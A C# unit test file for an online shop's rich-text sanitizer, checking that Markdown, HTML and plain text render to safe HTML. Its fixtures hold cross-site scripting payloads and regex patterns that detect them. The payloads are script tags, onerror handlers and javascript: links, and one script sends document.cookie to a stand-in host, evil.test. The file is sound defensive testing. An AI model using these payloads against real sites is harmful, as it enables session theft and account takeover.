using System.Text.RegularExpressions;
using Serverless.Shop.Domain.Catalog;

namespace Serverless.Shop.Domain.UnitTests.Catalog;

public sealed partial class RichTextTests
{
    // A tag that would run in the browser, as opposed to the same characters shown as text (&lt;script&gt;).
    [GeneratedRegex("<script", RegexOptions.IgnoreCase)]
    private static partial Regex ScriptElement();

    [GeneratedRegex(@"<[^>]*\son[a-z]+\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex EventHandlerAttribute();

    [GeneratedRegex(@"<[^>]*(href|src)\s*=\s*[""']?\s*javascript:", RegexOptions.IgnoreCase)]
    private static partial Regex JavaScriptUrl();

    [Fact]
    public void Markdown_is_rendered_to_html()
    {
        var html = RichText.From(RichTextFormat.Markdown, "# Care\n\nHand wash **only**.\n\n- no microwave\n- no dishwasher").Html;

        html.ShouldContain("Care</h1>");
        html.ShouldContain("<strong>only</strong>");
        html.ShouldContain("<li>no microwave</li>");
    }

    [Fact]
    public void The_source_is_kept_as_the_merchant_wrote_it()
    {
        var text = RichText.From(RichTextFormat.Markdown, "Hand wash **only**.");

        text.Format.ShouldBe(RichTextFormat.Markdown);
        text.Source.ShouldBe("Hand wash **only**.");
    }

    [Fact]
    public void A_safe_markdown_link_is_kept()
    {
        RichText.From(RichTextFormat.Markdown, "[care guide](https://example.com/care)").Html
            .ShouldContain("<a href=\"https://example.com/care\">care guide</a>");
    }

    [Fact]
    public void A_script_typed_into_markdown_does_not_reach_the_html()
    {
        var html = RichText.From(RichTextFormat.Markdown, "Nice mug <script>alert('x')</script>").Html;

        ScriptElement().IsMatch(html).ShouldBeFalse(html);
        html.ShouldContain("Nice mug");
    }

    [Fact]
    public void An_event_handler_typed_into_markdown_does_not_reach_the_html()
    {
        var html = RichText.From(RichTextFormat.Markdown, "<img src=x onerror=alert(1)>\n\n![mug](mug.png)").Html;

        EventHandlerAttribute().IsMatch(html).ShouldBeFalse(html);
    }

    [Fact]
    public void A_javascript_link_in_markdown_is_removed()
    {
        var html = RichText.From(RichTextFormat.Markdown, "[win a prize](javascript:alert(document.cookie))").Html;

        JavaScriptUrl().IsMatch(html).ShouldBeFalse(html);
        html.ShouldContain("win a prize");
    }

    [Fact]
    public void Harmless_html_is_kept()
    {
        RichText.From(RichTextFormat.Html, "<p>Hand wash <em>only</em>.</p>").Html.ShouldBe("<p>Hand wash <em>only</em>.</p>");
    }

    [Fact]
    public void A_script_element_is_removed_from_html()
    {
        var html = RichText.From(RichTextFormat.Html, "<p>Nice mug</p><script>fetch('https://evil.test?c=' + document.cookie)</script>").Html;

        ScriptElement().IsMatch(html).ShouldBeFalse(html);
        html.ShouldNotContain("document.cookie");
        html.ShouldContain("<p>Nice mug</p>");
    }

    [Fact]
    public void An_onerror_handler_is_removed_from_html()
    {
        var html = RichText.From(RichTextFormat.Html, "<img src=\"https://cdn.test/mug.png\" onerror=\"alert(1)\">").Html;

        html.ShouldNotContain("onerror", Case.Insensitive);
        html.ShouldContain("https://cdn.test/mug.png");
    }

    [Fact]
    public void A_javascript_url_is_removed_from_html()
    {
        var html = RichText.From(RichTextFormat.Html, "<a href=\"javascript:alert(1)\">win a prize</a>").Html;

        html.ShouldNotContain("javascript:", Case.Insensitive);
        html.ShouldContain("win a prize");
    }

    [Fact]
    public void Plain_text_is_encoded_so_markup_shows_as_typed()
    {
        RichText.From(RichTextFormat.Text, "<b>50% off</b> & more").Html.ShouldBe("&lt;b&gt;50% off&lt;/b&gt; &amp; more");
    }

    [Fact]
    public void Line_breaks_in_plain_text_become_html_line_breaks()
    {
        RichText.From(RichTextFormat.Text, "Hand wash.\nNo microwave.").Html.ShouldBe("Hand wash.<br>No microwave.");
    }
}
